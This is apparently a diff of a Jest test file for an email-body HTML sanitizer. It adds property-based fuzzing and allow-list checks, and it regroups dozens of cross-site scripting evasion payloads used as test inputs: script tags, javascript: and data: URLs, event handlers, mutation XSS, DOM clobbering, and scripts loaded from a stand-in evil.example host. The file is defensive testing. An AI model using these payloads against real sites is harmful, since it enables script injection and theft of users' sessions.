@@ -1,88 +1,163 @@
+import fc from 'fast-check';
 import type {} from 'trusted-types';
 import { HOSTILE_BODY, RICH_BODY } from '../../dev/rich-body';
-import { dangersIn } from '../testing/dangers';
-import { insertBody } from '../testing/insert-body';
+import { sanitize } from './sanitize';
 
-describe('removes active content', () => {
-  test.each([
-    '<script>alert(1)</script>',
-    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+const HARMLESS_TAGS = new Set(
+  `A B BLOCKQUOTE BR CAPTION CENTER CODE DD DEL DIV DL DT EM FONT H4 HR I IMG INS LI MARK OL P PRE S SMALL SPAN
+  STRIKE STRONG SUB SUP TABLE TBODY TD TFOOT TH THEAD TR U UL`.split(/\s+/),
+);
+const HARMLESS_ATTRIBUTE =
+  /^(align|alt|aria-label|border|cellpadding|cellspacing|colspan|data-plain|data-sheet|data-withheld-picture|dir|height|href|lang|loading|referrerpolicy|rel|reversed|role|rowspan|src|start|style|tabindex|target|title|type|valign|value|width)$/;
+const HARMLESS_STYLE =
+  /^(--given-color|background-color|border-(bottom|collapse|left|radius|right|top)|display|font-style|font-weight|padding|text-align|text-decoration|vertical-align)/;
+const HARMLESS_ADDRESS =
+  /^(?:(?:href|src)=https?:|href=(?:mailto|tel):|src=data:image\/(?:avif|bmp|gif|jpe?g|png|webp|x-icon)[;,])/i;
+
+/** The elements, attributes, styles and URLs that are more than formatting. */
+const dangersIn = (box: ParentNode): string[] =>
+  [...box.querySelectorAll<HTMLElement>('*')].flatMap((element) => [
+    ...(HARMLESS_TAGS.has(element.tagName) ? [] : [element.tagName]),
+    ...[...element.attributes].map(({ name }) => name).filter((name) => !HARMLESS_ATTRIBUTE.test(name)),
+    ...Array.from(element.style).filter((property) => !HARMLESS_STYLE.test(property)),
+    ...['href', 'src']
+      .map((name) => `${name}=${element.getAttribute(name) ?? 'https:'}`)
+      .filter((address) => !HARMLESS_ADDRESS.test(address)),
+  ]);
+
+const TEXTS = { picture: 'Picture', table: 'Table' };
+
+/** Sanitizes a body and inserts it into the page, where the nodes are adopted as they are in a browser. */
+const insertBody = (html: string): HTMLElement => {
+  const box = document.createElement('div');
+  document.body.replaceChildren(box);
+  box.append(sanitize(html, TEXTS));
+  return box;
+};
+
+/** Also of the nodes when they are serialized and parsed again, as when a customer copies them. */
+const dangersOf = (html: string): string[] => {
+  const box = insertBody(html);
+  const template = document.createElement('template');
+  template.innerHTML = box.innerHTML;
+  return [...dangersIn(box), ...dangersIn(template.content)];
+};
+
+const alert = jest.spyOn(window, 'alert').mockImplementation(() => undefined);
+afterEach(() => expect(alert).not.toHaveBeenCalled());
+
+/** One body for each way to evade a filter: OWASP's cheat sheet, and mutations that passed some sanitizer. */
+const EVASIONS = {
+  scripts: [
+    `';alert(1)//";alert(1)//--></SCRIPT>">'><SCRIPT>alert(String.fromCharCode(88,83,83))</SCRIPT>`,
+    '<SCRIPT/XSS SRC=//evil.example/x.js></SCRIPT>',
+    '<SCRIPT SRC=https://evil.example/xss.js?< B >',
+    '<SCRIPT a=`>` SRC="https://evil.example/xss.js"></SCRIPT>',
     '<scr<script>ipt>alert(1)</scr</script>ipt>',
-    '<img src=x onerror=alert(1)>',
-    '<img src="https://ok.example/a.png" onload="alert(1)">',
-    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
-    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
-    '<img src="data:text/html;base64,AAAA">',
-    '<img src="data:image/svg+xml;base64,AAAA">',
-    '<img src="data:image/png,x" srcset="data:image/svg+xml,x">',
-    '<a href="data:image/png;base64,AAAA">x</a>',
-    '<img srcset="https://evil.example/a.png 1x">',
-    '<p onclick="alert(1)" onmouseover=alert(1)>x</p>',
-    '<p/onpointerenter=alert(1)>x</p>',
-    '<svg onload=alert(1)></svg>',
-    '<svg><script>alert(1)</script></svg>',
-    '<svg><animate onbegin=alert(1) attributeName=x></svg>',
-    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
-    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
-    '<math href="javascript:alert(1)">x</math>',
+    '<scr\0ipt>alert(1)</scr\0ipt>',
+    '</TITLE><SCRIPT>alert(1);</SCRIPT>',
+    '<!--[if gte IE 4]><SCRIPT>alert(1);</SCRIPT><![endif]-->',
+    '<?xml version="1.0"?><script>alert(1)</script>',
+    '<HTML xmlns:xss><?import namespace="xss" implementation="https://evil.example/x.htc"><xss:xss>x</xss:xss></HTML>',
+    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg">',
+    '<BASE HREF="javascript:alert(1);//"><LINK REL="stylesheet" HREF="javascript:alert(1);">',
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data="javascript:alert(1)"></object>',
+    '<embed src="javascript:alert(1)"><LAYER SRC="https://evil.example/scriptlet.html"></LAYER>',
     '<form action="https://evil.example"><input name=code><button>Send</button></form>',
-    '<textarea autofocus onfocus=alert(1)></textarea>',
-    '<select onchange=alert(1)><option>1</option></select>',
-    '<iframe src="https://evil.example"></iframe>',
-    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-    '<object data="javascript:alert(1)"></object>',
-    '<embed src="javascript:alert(1)">',
-    '<a href="javascript:alert(1)">x</a>',
-    '<a href="JaVa\tScRiPt:alert(1)">x</a>',
-    '<a href="&#106;avascript:alert(1)">x</a>',
-    '<a href=" javascript:alert(1)">x</a>',
-    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
-    '<a href="vbscript:msgbox(1)">x</a>',
-    '<a href="blob:https://evil.example/1">x</a>',
-    '<a href="//evil.example">x</a>',
-    '<a href="/logout">x</a>',
-    '<a href="https://ok.example" ping="https://evil.example" target="portal">x</a>',
-    '<base href="https://evil.example/">',
-    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
-    '<link rel="stylesheet" href="https://evil.example/x.css">',
-    '<style>body { display: none }</style>',
-    '<style><img src="</style><img src=x onerror=alert(1)>">',
-    '<p id="root" name="cookie" class="MuiAlert-root" slot="x" part="y">x</p>',
-    '<img name="getElementById" id="querySelector">',
-    '<p style="position:fixed;inset:0;z-index:9;background:url(https://evil.example)">x</p>',
-    '<p style="background-color:red;background-image:url(javascript:alert(1))">x</p>',
-    '<p data-given-style="position:fixed">x</p>',
-    '<p aria-live="assertive" aria-hidden="true">x</p>',
-    '<p contenteditable autofocus draggable="true">x</p>',
-    '<template><script>alert(1)</script></template>',
-    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
-    '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
-    '<video src=x onerror=alert(1) autoplay></video>',
-    '<details open ontoggle=alert(1)>x</details>',
-    '<marquee onstart=alert(1)>x</marquee>',
-    '<dialog open>x</dialog>',
-    '<x-element is="y">x</x-element>',
-    '<!--><img src=x onerror=alert(1)>-->',
-    '<![CDATA[<img src=x onerror=alert(1)>]]>',
-    '<table background="javascript:alert(1)"><tr><td background="//evil.example">x</td></tr></table>',
     HOSTILE_BODY,
-  ])('%s', (html) => {
-    expect(dangersIn(insertBody(html))).toEqual([]);
-  });
+  ],
+  addresses: [
+    '<IMG SRC=JaVaScRiPt:alert(1)>',
+    '<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)>',
+    '<IMG SRC="jav&#x0A;ascript:alert(1);">',
+    '<a href="JaVa\tScRiPt:alert(1)">x</a>',
+    '<A HREF="\x01javascript:alert(1)">x</A>',
+    '<A HREF="javascript&colon;alert(1)">x</A>',
+    '<A HREF="view-source:javascript:alert(1)">x</A><a href="vbscript:msgbox(1)">x</a>',
+    '<A HREF="https:\\\\evil.example">x</A>',
+    '<a href="//evil.example">x</a><a href="/logout">x</a>',
+    '<a href="data:image/png;base64,AAAA">x</a><a href="blob:https://evil.example/1">x</a>',
+    '<a href="https://ok.example" ping="https://evil.example" target="portal">x</a>',
+    '<img src="data:image/png,x" srcset="data:image/svg+xml,x"><IMG DYNSRC="javascript:alert(1)">',
+    '<IMG SRC="DATA:IMAGE/SVG+XML,<svg onload=alert(1)></svg>">',
+    '<IMG SRC="data:image/svg&#x2b;xml,<svg onload=alert(1)></svg>">',
+    '<IMG SRC="data:image/png+svg+xml,<svg onload=alert(1)></svg>"><IMG SRC="data:,x">',
+    '<TABLE BACKGROUND="javascript:alert(1)"><TD BACKGROUND="//evil.example">x',
+    '<p href="https://evil.example" src="https://evil.example/a.png">x</p><a src="mailto:a@example.com">x</a>',
+  ],
+  handlers: [
+    '<img src="https://ok.example/a.png" onload="alert(1)" onerror=alert(1)>',
+    '<img/src/onerror=alert(1)>',
+    '<img src=x onerror\x0c=alert(1)>',
+    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>',
+    '<p/onpointerenter=alert(1) onfocus=alert(1) tabindex=1 autofocus contenteditable>x</p>',
+    '<b onbeforetoggle=alert(1) popover id=x>x</b><button popovertarget=x>y</button>',
+    '<p oncontentvisibilityautostatechange=alert(1) style="content-visibility:auto">x</p>',
+    '<video src=x onerror=alert(1)><source onerror="alert(1)"></video><details open ontoggle=alert(1)>x</details>',
+    '<table><tr onclick=alert(1)><td onclick=alert(1)>x</table>',
+  ],
+  'style sheets': [
+    '<p style="position:fixed;inset:0;z-index:9;background:url(https://evil.example)">x</p>',
+    '<DIV STYLE="background-image:\\0075\\0072\\006C\\0028\'\\006a\\0061\'\\0029">x</DIV>',
+    '<DIV STYLE="color:red/*;*/;inset:0">x</DIV>',
+    '<DIV STYLE="background-color:red url(https://evil.example/x)">x</DIV>',
+    '<DIV STYLE="text-decoration:underline;--given-color:url(https://evil.example/x)">x</DIV>',
+    '<p data-given-style="inset:0" style="color:red">x</p>',
+    '<p STYLE=color:red;position:fixed style=position:absolute>x</p>',
+    "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(1)';</STYLE>",
+    '<style/><img src=x onerror=alert(1)>',
+    '<style><img src="</style><img src=x onerror=alert(1)>">',
+  ],
+  mutations: [
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+    '<listing>&lt;img onerror="alert(1)" src=x&gt;</listing>',
+    '<img src="x` `<script>alert(1)</script>"` `>',
+    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
+    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
+    '<math><mtext><table><mglyph><style><math href=javascript:alert(1)>x</math></style></mglyph></table></mtext></math>',
+    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
+    '<svg><desc><noscript>&lt;/noscript&gt;&lt;/desc&gt;&lt;s&gt;&lt;a onclick=alert(1)&gt;x',
+    '<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>',
+    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><a onclick=alert(1)/></svg>#x"/></svg>',
+    '<div><template shadowrootmode=open><slot onslotchange=alert(1)></slot></template></div>',
+    '<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=alert(1)>">',
+    '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
+    '<plaintext><img src=x onerror=alert(1)>',
+    '<!--!><img src=x onerror=alert(1)>--!><img src=x onerror=alert(1)>',
+    '<!DOCTYPE x [<!ENTITY y "<script>alert(1)</script>">]>&y;',
+    '<![CDATA[<script>]]>alert(1)<![CDATA[</script>]]>',
+    '<is-x is="script" onclick=alert(1)>x</is-x><p is="x-y">x</p>',
+  ],
+  clobbering: [
+    '<form onclick=alert(1)><input name=attributes><input name=parentNode><input name=childNodes></form>',
+    '<img name=body><img name=currentScript><img id=defaultView name=documentElement>',
+    '<p id="root" name="cookie" class="MuiAlert-root" slot="x" part="y" for=x form=y aria-live="assertive">x</p>',
+    '<object name=implementation></object><embed name=cookie>',
+  ],
+  'whole documents': [
+    '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>',
+    '<!doctype html><html><head><title>x</title></head><frameset></frameset></html>',
+    '</body><body onload=alert(1)><html onclick=alert(1)>',
+    '<head><style>b{}</style><script>alert(1)</script></head>',
+  ],
+};
 
-  it('keeps the text of removed elements', () => {
-    expect(insertBody('<form><label>Meter reading</label> <b>4711</b></form>')).toHaveTextContent(
-      'Meter reading 4711',
-    );
-  });
-
-  it('removes scripts and style sheets with their content', () => {
-    expect(insertBody('a<script>alert(1)</script><style>b{}</style>c')).toHaveTextContent(/^ac$/);
-  });
+describe.each(Object.entries(EVASIONS))('removes %s', (_, bodies) => {
+  test.each(bodies)('%s', (html) => expect(dangersOf(html)).toEqual([]));
 });
 
-describe('formatting', () => {
-  it('of a rich body is kept', () => {
+it('removes scripts and style sheets with their content, and keeps the text of other elements', () => {
+  const body = insertBody(
+    '<form><label>Reading</label> <b>4711</b></form><script>alert(1)</script><style>b{}</style>',
+  );
+  expect(body).toHaveTextContent(/^Reading 4711$/);
+});
+
+const first = (html: string, selector: string): HTMLElement =>
+  insertBody(html).querySelector<HTMLElement>(selector) ?? document.body;
+
+describe('a body keeps', () => {
+  it('the formatting of a rich text', () => {
     const box = insertBody(RICH_BODY);
     expect(dangersIn(box)).toEqual([]);
     expect(box.querySelector('strong')).toHaveTextContent('circulation pump');
@@ -90,27 +165,48 @@ describe('formatting', () => {
     expect(box.querySelectorAll('tbody td')).toHaveLength(12);
   });
 
-  it('is limited to allowed inline styles', () => {
-    const { style } = insertBody(
-      '<p style="COLOR: red; background-color: yellow; text-align: center; font-weight: bold; font-style: italic; margin: 9em">x</p>',
-    ).querySelector('p') ?? { style: new CSSStyleDeclaration() };
-    expect(style.getPropertyValue('--given-color')).toBe('red');
-    expect(style.backgroundColor).toBe('yellow');
-    expect(style.textAlign).toBe('center');
-    expect(style.fontWeight).toBe('bold');
-    expect(style.fontStyle).toBe('italic');
-    expect(style.margin).toBe('');
+  test.each([
+    ['colors of text', '<p style="COLOR: red">x</p>', 'p', '--given-color: red;'],
+    ['colors of fonts', '<font color="c00000">x</font>', 'font', '--given-color: rgb(192, 0, 0);'],
+    [
+      'other styles',
+      '<p style="font-weight: bold; margin: 9em; text-align: center">x</p>',
+      'p',
+      'font-weight: bold; text-align: center;',
+    ],
+    [
+      'the look of cells',
+      '<table><tr><td bgcolor="#003366">x</td></tr></table>',
+      'td',
+      'background-color: rgb(0, 51, 102);',
+    ],
+  ])('%s', (_, html, selector, style) => {
+    expect(first(html, selector)).toHaveAttribute('style', style);
   });
 
-  it('does not affect text that looks like a style', () => {
+  test.each([
+    ['languages', '<p lang="de">x</p>', 'p[lang="de"]'],
+    ['lists of terms', '<dl><dt>Pump</dt><dd>x</dd></dl>', 'dl > dd'],
+    ['the kind and start of a list', '<ol type="a" start="3"><li>x</li></ol>', 'ol[type="a"][start="3"]'],
+    ['the numbers of a list', '<ol><li value="7">x</li></ol>', 'li[value="7"]'],
+    ['the padding of tables', '<table cellpadding="8"><tr><td>x</td></tr></table>', 'table[cellpadding="8"]'],
+    ['the text of a link that leads nowhere', '<a href="manual.pdf">x</a>', 'a:not([href])'],
+    ['the text of a link without an address', '<a href="">x</a>', 'a:not([href])'],
+    ...['section', 'details', 'figcaption', 'article', 'address', 'fieldset'].map((tag) => [
+      `<${tag}> on a line of its own`,
+      `<b>a</b><${tag}>x</${tag}>`,
+      'b + div',
+    ]),
+  ])('%s', (_, html = '', selector = '') => {
+    expect(first(html, selector)).toHaveTextContent(/^x$/);
+  });
+
+  it('text that looks like a style', () => {
     expect(insertBody('<p>my style = "color:red" &lt;style&gt;</p>')).toHaveTextContent(
       'my style = "color:red" <style>',
     );
   });
 });
-
-const first = (html: string, selector: string): HTMLElement =>
-  insertBody(html).querySelector<HTMLElement>(selector) ?? document.body;
 
 describe('a body of plain text', () => {
   const body = (html: string) => insertBody(html).querySelector('[data-plain]');
@@ -118,10 +214,7 @@ describe('a body of plain text', () => {
   test.each([
     ['Dear Ann,\nwe come on Friday.', 'Dear Ann,\nwe come on Friday.'],
     ['Pressure < 3 bar\r\nTom &amp; Dana', 'Pressure < 3 bar\nTom & Dana'],
-    [
-      'Write to <dana@example.com>\nor <https://example.com>',
-      'Write to <dana@example.com>\nor <https://example.com>',
-    ],
+    ['<dana@example.com>\nor <https://example.com>', '<dana@example.com>\nor <https://example.com>'],
   ])('keeps its lines and its text: %j', (html, text) => {
     expect(body(html)?.textContent).toBe(text);
   });
@@ -132,15 +225,12 @@ describe('a body of plain text', () => {
 });
 
 describe('a mail', () => {
-  it('keeps the look of cells, headers and links', () => {
+  it('with backgrounds of its own is on a sheet, with its buttons', () => {
     const mail = insertBody(
-      `<table cellpadding="8" border="0"><tr><td bgcolor="#003366"><a style="background:#cc0000;color:#fff;padding:8px 16px;
-      border-radius:4px;display:inline-block;text-decoration:none" href="https://example.com">Confirm</a></td></tr></table>`,
+      `<a style="background:#cc0000;color:#fff;padding:8px 16px;border-radius:4px;display:inline-block;
+      text-decoration:none" href="https://example.com">Confirm</a>`,
     );
-    expect(mail.querySelector('[data-sheet]')).not.toBeNull();
-    expect(mail.querySelector('td')).toHaveStyle({ backgroundColor: '#003366' });
-    expect(mail.querySelector('table')).toHaveAttribute('cellpadding', '8');
-    expect(mail.querySelector('a')).toHaveStyle({
+    expect(mail.querySelector('[data-sheet] > a')).toHaveStyle({
       backgroundColor: '#cc0000',
       paddingTop: '8px',
       paddingLeft: '16px',
@@ -150,143 +240,75 @@ describe('a mail', () => {
     });
   });
 
-  test.each([
-    '<p style="color:red">x</p>',
-    '<p style="background-color:transparent">x</p>',
-    '<p style="background:none">x</p>',
-  ])('without a background needs no sheet: %s', (html) =>
-    expect(insertBody(html).querySelector('[data-sheet]')).toBeNull(),
-  );
-});
-
-describe('a body keeps', () => {
-  test.each(['section', 'details', 'figcaption', 'article', 'address', 'fieldset'])(
-    '<%s> on a line of its own',
-    (tag) => {
-      expect(first(`<b>a</b><${tag}>c</${tag}>`, 'b + div')).toHaveTextContent(/^c$/);
+  test.each(['color:red', 'background-color:transparent', 'background:none'])(
+    'with %s needs no sheet',
+    (style) => {
+      expect(insertBody(`<p style="${style}">x</p>`).querySelector('[data-sheet]')).toBeNull();
     },
   );
-
-  it('lists of terms', () => {
-    expect(first('<dl><dt>Pump</dt><dd>UPS2</dd></dl>', 'dl > dd')).toHaveTextContent(/^UPS2$/);
-  });
-
-  it('languages', () => expect(first('<p lang="de">x</p>', 'p')).toHaveAttribute('lang', 'de'));
-
-  it('the colors of fonts', () => {
-    expect(first('<font color="c00000">x</font>', 'font').style.getPropertyValue('--given-color')).toBe(
-      'rgb(192, 0, 0)',
-    );
-  });
-
-  it('the numbers of lists', () => {
-    expect(first('<ol type="a" start="3"><li>x</li></ol>', 'ol')).toHaveAttribute('type', 'a');
-    expect(first('<ol><li value="7">x</li></ol>', 'li')).toHaveAttribute('value', '7');
-  });
-
-  it('the text of a link that leads nowhere, such as a relative one', () => {
-    expect(first('<a href="manual.pdf">Manual</a>', 'a')).toHaveTextContent('Manual');
-    expect(first('<a href="manual.pdf">Manual</a>', 'a')).not.toHaveAttribute('href');
-  });
 });
 
 describe('a link', () => {
-  const link = (html: string) => insertBody(html).querySelector('a');
-
-  test.each(['https://example.com/a?b=c', 'http://example.com/'])('to %s opens in a new tab', (href) => {
-    expect(link(`<a href="${href}">x</a>`)).toMatchObject({
-      href,
-      target: '_blank',
-      rel: 'noopener noreferrer',
-    });
+  test.each([
+    ['https://example.com/a?b=c', '_blank'],
+    ['http://example.com/', '_blank'],
+    ['mailto:a@example.com', ''],
+    ['tel:+12025550123', ''],
+  ])('to %s opens in %j', (href, target) => {
+    expect(first(`<a href="${href}">x</a>`, 'a')).toMatchObject({ href, target, rel: 'noopener noreferrer' });
   });
 
-  test.each(['mailto:a@example.com', 'tel:+12025550123'])('to %s does not open a new tab', (href) => {
-    expect(link(`<a href="${href}">x</a>`)).toMatchObject({ href, target: '', rel: 'noopener noreferrer' });
-  });
-
-  it('with an empty URL loses its href', () => {
-    expect(link('<a href="">x</a>')).not.toHaveAttribute('href');
-  });
-
-  it('without text is named by its URL', () => {
-    expect(link('<a href="https://example.com/"><img src="https://example.com/a.png"></a>')).toHaveAttribute(
+  it('without text is named by its picture, or by its address', () => {
+    const link = (picture: string) => first(`<a href="https://example.com/">${picture}</a>`, 'a');
+    expect(link('<img src="https://example.com/a.png">')).toHaveAttribute(
       'aria-label',
       'https://example.com/',
     );
-  });
-
-  it('around an image is named by the alt text', () => {
-    expect(
-      link('<a href="https://example.com/"><img alt="Plan" src="https://example.com/a.png"></a>'),
-    ).not.toHaveAttribute('aria-label');
+    expect(link('<img alt="Plan" src="https://example.com/a.png">')).not.toHaveAttribute('aria-label');
   });
 });
 
 describe('an image', () => {
-  const image = (html: string) => insertBody(html).querySelector('img');
-
-  it('loads lazily and without a referrer', () => {
-    const pump = image('<img src="https://example.com/a.png" alt="Pump" width="40">');
-    expect(pump).toMatchObject({ src: 'https://example.com/a.png', alt: 'Pump', width: 40 });
-    expect(pump).toHaveAttribute('referrerpolicy', 'no-referrer');
-    expect(pump).toHaveAttribute('loading', 'lazy');
-  });
-
-  it('without alt is decorative', () => {
-    expect(image('<img src="https://example.com/a.png">')).toHaveAttribute('alt', '');
+  it('loads lazily and without a referrer; without alt, it is decorative', () => {
+    const image = first('<img src="https://example.com/a.png" width="40">', 'img');
+    expect(image).toMatchObject({ src: 'https://example.com/a.png', width: 40 });
+    expect(image).toHaveAttribute('loading', 'lazy');
+    expect(image).toHaveAttribute('referrerpolicy', 'no-referrer');
+    expect(image).toHaveAttribute('alt', '');
   });
 
   test.each(['png', 'jpeg', 'gif', 'webp', 'avif'])('in a data URL is kept if it is a %s', (type) => {
     const src = `data:image/${type};base64,AA==`;
-    expect(image(`<img src="${src}" alt="Pump">`)).toMatchObject({ src, alt: 'Pump' });
+    expect(first(`<img src="${src}" alt="Pump">`, 'img')).toMatchObject({ src, alt: 'Pump' });
   });
 
   test.each(['data:image/svg+xml,<svg/>', 'data:text/html,x', 'a.png', 'cid:1', 'mailto:a@example.com', ''])(
     'from %j is replaced by its alt text',
-    (src) => {
-      const body = insertBody(`<p>[<img src="${src}" alt="Pump">]</p>`);
-      expect(body.querySelector('img')).toBeNull();
-      expect(body.textContent).toBe('[Pump]');
-    },
+    (src) => expect(first(`<p>[<img src="${src}" alt="Pump">]</p>`, 'p').innerHTML).toBe('[Pump]'),
   );
 });
 
-describe('a table', () => {
-  it('scrolls in a focusable box', () => {
-    const box = insertBody('<p>x</p><table><tr><td>1</td></tr></table>').querySelector(
-      'table',
-    )?.parentElement;
-    expect(box).toHaveAttribute('tabindex', '0');
-    expect(box).toHaveAttribute('role', 'group');
-    expect(box).toHaveAttribute('aria-label', 'Table');
-  });
-
-  it('inside a table has no box of its own', () => {
-    const body = insertBody('<table><tr><td><table><tr><td>1</td></tr></table></td></tr></table>');
-    expect(body.querySelectorAll('table')).toHaveLength(2);
-    expect(body.querySelectorAll('[role=group]')).toHaveLength(1);
-  });
+it('puts a table, but no table inside one, into a focusable box that scrolls', () => {
+  const body = insertBody('<table><tr><td><table><tr><td>1</td></tr></table></td></tr></table>');
+  expect(body.querySelectorAll('table')).toHaveLength(2);
+  const [box, ...others] = body.querySelectorAll('[role=group]');
+  expect(box).toHaveAttribute('tabindex', '0');
+  expect(box).toHaveAttribute('aria-label', 'Table');
+  expect(others).toEqual([]);
 });
 
-describe('headings', () => {
-  test.each([1, 2, 3, 6])('of level %i are below the heading of their event', (level) => {
-    const heading = insertBody(
-      `<h${level} style="text-align:center" dir="rtl"><em>x</em></h${level}>`,
-    ).querySelector('h4');
-    expect(heading).toHaveStyle({ textAlign: 'center' });
-    expect(heading).toHaveAttribute('dir', 'rtl');
-    expect(heading?.innerHTML).toBe('<em>x</em>');
-  });
+test.each([1, 2, 3, 6])('headings of level %i are below the heading of their event', (level) => {
+  const heading = first(`<h${level} style="text-align:center" dir="rtl"><em>x</em></h${level}>`, 'h4');
+  expect(heading).toHaveStyle({ textAlign: 'center' });
+  expect(heading).toHaveAttribute('dir', 'rtl');
+  expect(heading.innerHTML).toBe('<em>x</em>');
+});
 
-  it('without content are removed', () => {
-    expect(insertBody('<h2> </h2><h2><br></h2>').querySelector('h4')).toBeNull();
-  });
+it('removes headings without content', () => {
+  expect(insertBody('<h2> </h2><h2><br></h2>').querySelector('h4')).toBeNull();
 });
 
 describe('with Trusted Types', () => {
-  const TEXTS = { picture: 'Picture', table: 'Table' };
-
   const sanitizeWith = async (createPolicy: jest.Mock) => {
     Object.assign(window, { trustedTypes: { createPolicy } });
     const parsed = jest.spyOn(DOMParser.prototype, 'parseFromString');
@@ -317,5 +339,104 @@ describe('with Trusted Types', () => {
     expect(await sanitizeWith(createPolicy)).toEqual(['string']);
     expect(createPolicy).toHaveBeenCalledTimes(1);
     expect(document.body.innerHTML).toBe('<div><p>Words</p></div>');
+  });
+});
+
+describe('generated bodies', () => {
+  const tag = fc.constantFrom(
+    ...`a annotation-xml article b base blockquote body br button caption col colgroup desc details dialog div dl em
+    embed font foreignObject form frame frameset h1 h2 h3 h6 head hr html i iframe image img input li link listing
+    main map marquee math meta mglyph mi mtext noembed noframes noscript object ol option p param plaintext portal pre
+    script section select selectedcontent slot span strike style svg table tbody td template textarea tfoot th thead
+    title tr track u ul use video wbr x-element xmp`.split(/\s+/),
+  );
+  const space = fc.constantFrom(' ', '\n', '\t', '/', '\f', '');
+  const name = fc.constantFrom(
+    ...`action align alt attributeName background class colspan data-given-style data-withheld-picture dir formaction
+    height href id is name onclick onerror onload role shadowrootmode src srcdoc srcset start style tabindex target
+    title type width xlink:href xml:base xmlns`.split(/\s+/),
+    'ON\0CLICK',
+  );
+  const value = fc.oneof(
+    fc.constantFrom(
+      'javascript:alert(1)',
+      'JaVa\tScript:alert(1)',
+      '&#106;avascript:alert(1)',
+      'data:image/png;base64,AA==',
+      'data:image/svg+xml,<svg onload=alert(1)>',
+      'data:text/html,<script>alert(1)</script>',
+      'https://example.com/a.png',
+      '//evil.example',
+      'mailto:a@example.com',
+      'alert(1)',
+      'color:red;position:fixed',
+      'background-color:var(--x);inset:0',
+      '</style><img src=x onerror=alert(1)>',
+      '-->',
+      ']]>',
+      'open',
+    ),
+    fc.string({ unit: 'binary', maxLength: 8 }),
+  );
+  const quote = fc.constantFrom('"', "'", '', '`');
+  const attribute = fc
+    .tuple(space, name, quote, value)
+    .map(([gap, key, mark, text]) => `${gap}${key}=${mark}${text}${mark}`);
+  const open = fc
+    .tuple(tag, fc.array(attribute, { maxLength: 4 }), fc.constantFrom('>', '/>', '', ' >'))
+    .map(([element, attributes, end]) => `<${element} ${attributes.join(' ')}${end}`);
+  const piece = fc.oneof(
+    { weight: 5, arbitrary: open },
+    { weight: 3, arbitrary: tag.map((element) => `</${element}>`) },
+    {
+      weight: 2,
+      arbitrary: fc.constantFrom(
+        'text',
+        '<!--',
+        '-->',
+        '--!>',
+        '<![CDATA[',
+        ']]>',
+        '<?',
+        '<!doctype html>',
+        '&lt;img onerror=alert(1)&gt;',
+        '\0',
+        '\uD800',
+        '<',
+        '>',
+        '"',
+        '`',
+      ),
+    },
+    { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 20 }) },
+  );
+  const body = fc.array(piece, { maxLength: 30 }).map((pieces) => pieces.join(''));
+
+  it('never throw, and contain nothing executable when sanitized', () => {
+    fc.assert(
+      fc.property(body, (html) => {
+        expect(dangersOf(html)).toEqual([]);
+      }),
+      // A fixed seed: a failure in CI is then caused by the change. Other seeds may find more.
+      { numRuns: 400, seed: 2070479301 },
+    );
+  });
+});
+
+// jsdom takes quadratic time for nested elements; `orders.spec.ts` tests 10,000 levels in a browser.
+describe('extremely large bodies', () => {
+  test.each([
+    ['1,000 levels of formatting', '<div>'.repeat(1000)],
+    ['1,000 levels of removed elements', '<section><form><font>'.repeat(333)],
+    ['1,000 levels of other namespaces', '<svg><g><math><mtext>'.repeat(250)],
+    ['200 nested tables', '<table><tr><td>'.repeat(200)],
+    ['300 headings', '<h1>x</h1>'.repeat(300)],
+    ['100,000 unclosed tags', '<a<b<i<'.repeat(33_333)],
+    ['5 MB of text', 'pump '.repeat(1_048_576)],
+    ['a picture of 5 MB', `<img alt="Pump" src="data:image/png;base64,${'A'.repeat(5_242_880)}">`],
+    ['an attribute of 5 MB', `<p onclick="${'x'.repeat(5_242_880)}" style="${' '.repeat(1_000_000)}">x</p>`],
+    ['1 MB of invalid characters', '\0\uD800\uDFFF\uFFFF'.repeat(262_144)],
+  ])('%s', (_, html) => {
+    expect(dangersIn(insertBody(html))).toEqual([]);
   });
 });
